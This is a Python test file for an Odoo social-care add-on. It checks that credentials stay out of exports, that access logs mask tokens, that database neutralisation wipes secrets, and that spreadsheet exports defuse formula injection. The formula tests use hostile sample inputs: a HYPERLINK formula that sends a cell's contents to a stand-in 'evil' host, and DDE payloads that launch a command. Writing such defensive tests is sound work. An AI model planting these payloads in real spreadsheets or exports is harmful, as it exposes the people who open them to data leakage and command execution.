"""Credentials: not in logs, not in exports, not in a copy of the database."""

import io
import json
import logging
from urllib.parse import urlencode

import openpyxl

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.modules.neutralize import get_neutralization_queries

from odoo.addons.social_care import access_log
from odoo.addons.social_care.connecting.credentials import NAMES as CREDENTIALS

from .common import OdooHttpCase, say
from .test_replies import ReplyCase

SECRETS = {name: f"secret-{name}" for name in CREDENTIALS}


class TestSecrets(ReplyCase):
    def setUp(self):
        super().setUp()
        self.account.write(SECRETS)
        self.env.flush_all()
        self.mine = self.account.with_user(self.admin)

    def test_what_postgresql_would_refuse_is_refused_before(self):
        wrong = (
            {"daily_budget": -1},
            {"daily_budget": float("nan")},
            {"name": False},
            {"network": False},
            {"sequence": 2**40},
            {"sequence": "many"},
            {"daily_budget": [1]},
            {"ticket_policy": False},
            {"team_id": 2**30},
        )
        for vals in wrong:
            with (
                self.subTest(vals),
                self.assertNoLogs("odoo.sql_db", logging.ERROR),
            ):
                with self.assertRaises(UserError):
                    self.mine.write(vals)
                    self.env.flush_all()
                with self.assertRaises(UserError):
                    self.mine.create({"name": "New", "network": "file"} | vals)
                    self.env.flush_all()

    def test_a_name_is_asked_for_in_words(self):
        with (
            self.assertNoLogs("odoo.sql_db", logging.ERROR),
            self.assertRaises(ValidationError),
        ):
            self.mine.create({"network": "file", **SECRETS})

    def test_never_exported(self):
        self.admin.group_ids += self.env.ref("base.group_allow_export")
        self.assertEqual(
            self.mine.export_data(["name"])["datas"], [[self.account.name]]
        )
        for name in (*CREDENTIALS, "webhook_token", "webhook_url", "lease_token"):
            with self.subTest(name):
                with self.assertRaises(AccessError):
                    self.mine.export_data(["name", name])
                with self.assertRaises(AccessError):
                    self.conversation.with_user(self.admin).export_data(
                        [f"account_id/{name}"]
                    )

    def test_the_access_log_opens_nothing(self):
        access_log.mask()
        log = logging.getLogger("werkzeug")
        asked = {
            "/social_care/claim/abc-DEF_1": "/social_care/claim/***",
            "/social_care/webhook/abc?x=1": "/social_care/webhook/***",
            "/social_care/deletion/abc-d": "/social_care/deletion/***",
            "/social_care/oauth/callback?code=abc&state=d": (
                "/social_care/oauth/callback?***"
            ),
            "/social_care/health": "/social_care/health",
        }
        for path, logged in asked.items():
            with self.subTest(path), self.assertLogs(log, logging.INFO) as caught:
                log.info('%s - "GET %s HTTP/1.1" 200 -', "127.0.0.1", path)
            self.assertIn(f'"GET {logged} HTTP/1.1"', caught.output[0])

    def test_no_formula_leaves_in_an_export(self):
        """Spreadsheets run what begins like one; telephone numbers are none."""
        self.admin.group_ids += self.env.ref("base.group_allow_export")
        formula = '=HYPERLINK("http://evil/"&A1,"x")'
        wild = [formula, "+1+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1)", "{=1}"]
        for number, words in enumerate(wild):
            who = f"w{number}"
            self.bring(say(words, id=who, author=who, author_name=words))
        posts = self.posts().with_user(self.admin).filtered(lambda p: p.body in wild)
        self.assertEqual(len(posts), len(wild))
        paths = ["body", "profile_id/name", "conversation_id/post_ids/body"]
        for row in posts.export_data(paths)["datas"]:
            for value in row:
                self.assertEqual(value[:1], "'", value)
        post = posts[0]
        post.sudo().body = "+43 1 (234) 56-78"
        self.assertEqual(post.export_data(["body"])["datas"], [[post.body]])

    def test_a_copy_of_the_database_speaks_to_nobody(self):
        reply = self.reply()
        reply.action_send()
        draft = self.reply("Another", visibility="private")
        self.assertEqual(reply.state, "queued")
        handoff = self.env["social.care.handoff"].create(
            {"ticket_id": self.conversation.ticket_id.id, "channel": "phone"}
        )
        self.assertTrue(handoff.claim_nonce)
        self.env.flush_all()
        queries = list(get_neutralization_queries(["social_care"]))
        self.assertEqual(len(queries), 1)
        self.env.cr.execute(queries[0])
        self.env.invalidate_all()
        accounts = self.account | self.practice
        for name in (*CREDENTIALS, "webhook_token", "folder"):
            self.assertFalse(any(accounts.mapped(name)), name)
        self.assertEqual(set(accounts.mapped("state")), {"draft"})
        self.assertEqual(reply.state, "cancelled")
        self.assertEqual(draft.state, "draft")
        self.assertFalse(handoff.claim_nonce)
        self.assertFalse(self.practice.action_process().get("sent"))
        self.assertFalse(self.published())


class TestSheets(OdooHttpCase):
    def test_no_formula_stands_in_a_sheet(self):
        """Neither in the headings of groups, nor in fields that are not ours."""
        formula = '=HYPERLINK("http://evil/","x")'
        kept = self.env["helpdesk.ticket"].create(
            [
                {"name": formula, "partner_name": formula, "description": "<p>1</p>"},
                {"name": "{=1+1}", "partner_name": "Ann", "description": "<p>2</p>"},
            ]
        )
        self.env.ref("base.user_admin").group_ids += self.env.ref(
            "base.group_allow_export"
        )
        self.authenticate("admin", "admin")
        for grouped in ([], ["partner_name"], ["partner_name", "name"]):
            asked = {
                "model": "helpdesk.ticket",
                "fields": [{"name": "name", "label": "Title", "type": "char"}],
                "ids": kept.ids,
                "domain": [],
                "groupby": grouped,
                "import_compat": False,
            }
            query = urlencode({"data": json.dumps(asked)})
            answer = self.url_open(f"/web/export/xlsx?{query}")
            sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
            cells = [cell for row in sheet for cell in row]
            self.assertEqual({cell.data_type for cell in cells} - {"n"}, {"s"})
            texts = [cell.value for cell in cells if cell.value]
            self.assertTrue(any("HYPERLINK" in text for text in texts), texts)
            self.assertFalse([it for it in texts if it.startswith(("=", "{="))], texts)
